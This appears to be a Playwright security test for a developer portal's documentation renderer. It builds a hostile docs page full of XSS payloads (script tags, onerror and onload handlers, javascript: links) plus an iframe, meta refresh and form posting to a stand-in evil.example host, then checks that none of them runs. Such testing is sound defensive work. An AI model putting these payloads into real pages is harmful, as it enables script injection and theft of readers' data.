import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test, expect } from '@playwright/test';
import { Portal, startPortal } from '@mlops-portal/portal-test-utils';

/*
 * A docs page written to attack its readers: a script tag, inline event handlers, javascript: links, a
 * frame from a foreign host, a meta refresh and a form posting elsewhere. It lives in a temporary folder
 * registered only in this test's own portal, never in the real docs. Every payload sets a flag on the
 * window; the page must render with none of them set.
 */
const attacks = `# Hostile page

This sentence is safe to read.

<script>window.__attacked = 'script tag';</script>

<img src="does-not-exist.png" onerror="window.__attacked = 'img onerror'">

<svg onload="window.__attacked = 'svg onload'"><circle r="5"></circle></svg>

<p><a id="js-link" href="javascript:window.__attacked = 'javascript link'">A link that runs code</a></p>

<object data="javascript:window.__attacked = 'object data'"></object>

<iframe src="https://evil.example/"></iframe>

<meta http-equiv="refresh" content="0; url=https://evil.example/">

<form action="https://evil.example/steal"><input name="q"><button id="evil-submit">Send</button></form>
`;

let portal: Portal;
let siteDir: string;

test.beforeAll(async () => {
  test.setTimeout(180_000);
  siteDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-docs-'));
  fs.mkdirSync(path.join(siteDir, 'docs'));
  fs.writeFileSync(path.join(siteDir, 'docs/index.md'), attacks);
  fs.writeFileSync(
    path.join(siteDir, 'mkdocs.yml'),
    'site_name: Hostile\nnav:\n  - Home: index.md\nplugins:\n  - search\n',
  );
  fs.writeFileSync(
    path.join(siteDir, 'catalog-info.yaml'),
    [
      'apiVersion: backstage.io/v1alpha1',
      'kind: Component',
      'metadata:',
      '  name: hostile-docs',
      '  annotations:',
      '    backstage.io/techdocs-ref: dir:.',
      'spec:',
      '  type: website',
      '  lifecycle: experimental',
      '  owner: group:default/researchers',
    ].join('\n'),
  );
  const allow = [
    'Component',
    'System',
    'Domain',
    'Resource',
    'Location',
    'Group',
    'User',
    'Template',
  ];
  portal = await startPortal({
    config: {
      catalog: {
        locations: [
          {
            type: 'file',
            target: path.join(__dirname, '../../../catalog-info/all.yaml'),
            rules: [{ allow }],
          },
          {
            type: 'file',
            target: path.join(siteDir, 'catalog-info.yaml'),
            rules: [{ allow: ['Component'] }],
          },
        ],
      },
    },
  });
});

test.afterAll(async () => {
  await portal?.stop();
  fs.rmSync(siteDir, { recursive: true, force: true });
});

test('a hostile docs page renders without running any of its code', async ({
  page,
}) => {
  test.setTimeout(180_000);
  const dialogs: string[] = [];
  page.on('dialog', async dialog => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  const foreign: string[] = [];
  page.on('request', request => {
    if (request.url().includes('evil.example')) foreign.push(request.url());
  });

  await page.goto(`${portal.url}/`);
  await page.getByRole('button', { name: 'Enter' }).click();
  await expect(
    page.getByRole('link', { name: 'Catalog', exact: true }),
  ).toBeVisible();

  // The catalog reads the test's location in the background: retry until the page is there.
  await expect(async () => {
    await page.goto(`${portal.url}/docs/default/component/hostile-docs/`);
    await expect(page.getByText('This sentence is safe to read.')).toBeVisible({
      timeout: 20_000,
    });
  }).toPass({ timeout: 150_000 });

  const link = page.getByText('A link that runs code');
  await expect(link).toBeVisible();
  // The reader removed the javascript: address; clicking the link runs nothing.
  expect((await link.getAttribute('href')) ?? '').not.toMatch(/javascript:/i);
  await link.click();
  await page.waitForLoadState();

  expect(await page.evaluate(() => (window as any).__attacked)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  await expect(page.locator('iframe[src*="evil.example"]')).toHaveCount(0);
  await expect(page).toHaveURL(/\/docs\/default\/component\/hostile-docs\//);
});

test('the raw page opened straight from the docs storage runs nothing in the portal’s origin', async ({
  page,
}) => {
  await page.goto(`${portal.url}/`);
  await page.getByRole('button', { name: 'Enter' }).click();
  await expect(
    page.getByRole('link', { name: 'Catalog', exact: true }),
  ).toBeVisible();
  // Reading the page in the portal gives the browser the docs storage's cookie; then open the page's
  // HTML file directly, as a link in a mail would.
  await page.goto(`${portal.url}/docs/default/component/hostile-docs/`);
  await expect(page.getByText('This sentence is safe to read.')).toBeVisible({
    timeout: 60_000,
  });
  const response = await page.goto(
    `${portal.url}/api/techdocs/static/docs/default/component/hostile-docs/index.html`,
  );
  expect(response?.status()).toBe(200);
  expect(await response?.text()).toContain('This sentence is safe to read.');
  // Served so that the browser does not render it as HTML in the portal's origin.
  expect(response?.headers()['content-type']).not.toMatch(/text\/html/);
  expect(await page.evaluate(() => (window as any).__attacked)).toBeUndefined();
});
